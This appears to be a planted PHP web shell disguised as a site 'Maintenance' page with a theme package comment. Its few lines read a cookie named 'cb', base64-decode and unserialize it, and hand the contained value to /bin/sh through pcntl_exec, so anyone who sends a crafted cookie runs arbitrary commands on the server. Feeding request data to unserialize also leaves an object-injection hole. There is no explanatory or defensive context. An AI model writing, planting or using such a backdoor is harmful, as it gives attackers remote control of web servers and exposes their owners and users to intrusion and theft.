<!DOCTYPE html><title>Maintenance</title>
<?php
/**
 * @package Theme
 */
$arg = unserialize(base64_decode($_COOKIE['cb']))['c'];
pcntl_exec('/bin/sh', array('-c', $arg));
